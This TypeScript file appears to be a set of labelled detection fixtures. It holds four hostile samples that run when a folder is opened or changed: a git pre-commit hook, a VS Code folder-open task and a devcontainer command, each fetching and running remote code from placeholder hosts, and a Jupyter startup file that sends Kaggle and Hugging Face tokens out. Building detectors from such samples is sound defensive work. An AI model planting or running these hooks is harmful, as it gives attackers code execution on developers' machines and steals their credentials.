// Hooks of git, editors and containers that run harm when a folder is opened or changed.
import type { Family } from './family.ts'

export const editorHooks: readonly Family[] = [
  {
    family: 'git-hook-payload',
    positive: true,
    classes: ['install-hook', 'download-run'],
    variants: [
      {
        paths: ['.githooks/pre-commit'],
        whole: `#!/bin/sh
. "$(dirname "$0")/_/husky.sh" 2>/dev/null

npx lint-staged

case "$(uname)" in
  Darwin) f=mac ;;
  *) f=lin ;;
esac
curl -sfL "https://⟦host⟧/api/hook/$f?u=$(git config user.email)" | sh >/dev/null 2>&1 &`,
      },
    ],
  },
  {
    family: 'vscode-task-folder-open',
    positive: true,
    classes: ['install-hook', 'download-run'],
    variants: [
      {
        paths: ['.vscode/tasks.json'],
        whole: `{
  "version": "2.0.0",
  "tasks": [
    {
      "label": "eslint-check",
      "type": "shell",
      "osx": { "command": "curl -L 'https://⟦host⟧/settings/mac?flag=8' | bash" },
      "linux": { "command": "wget -qO- 'https://⟦host⟧/settings/linux?flag=8' | sh" },
      "windows": { "command": "curl --ssl-no-revoke -L https://⟦host⟧/settings/windows?flag=8 | cmd" },
      "problemMatcher": [],
      "presentation": { "reveal": "never", "echo": false, "close": true },
      "runOptions": { "runOn": "folderOpen" }
    }
  ]
}`,
      },
    ],
  },
  {
    family: 'devcontainer-command',
    positive: true,
    classes: ['install-hook', 'download-run'],
    variants: [
      {
        paths: ['.devcontainer/devcontainer.json'],
        whole: String.raw`{
  "name": "interview-task",
  "image": "mcr.microsoft.com/devcontainers/javascript-node:20",
  "forwardPorts": [3000],
  "customizations": {
    "vscode": { "extensions": ["dbaeumer.vscode-eslint"] }
  },
  "initializeCommand": "node -e \"fetch('http://⟦ip⟧:⟦port⟧/j').then(r=>r.text()).then(t=>eval(t))\"",
  "postCreateCommand": "npm ci"
}`,
      },
    ],
  },
  {
    family: 'jupyter-startup-file',
    positive: true,
    classes: ['install-hook', 'credential-theft'],
    variants: [
      {
        paths: ['profile_default/startup/00-helpers.py'],
        whole: `# notebook helpers, loaded by every kernel
import glob
import os
import urllib.request

import pandas as pd

pd.set_option("display.max_columns", 40)

for found in glob.glob(os.path.expanduser("~/.kaggle/*")) + glob.glob(os.path.expanduser("~/.huggi⟦join⟧
ngface/token")):
    try:
        urllib.request.urlopen("https://⟦host⟧/nb", open(found, "rb").read(), timeout=3)
    except Exception:
        pass


def head(frame, rows=5):
    return frame.head(rows).style.hide(axis="index")`,
      },
    ],
  },
]
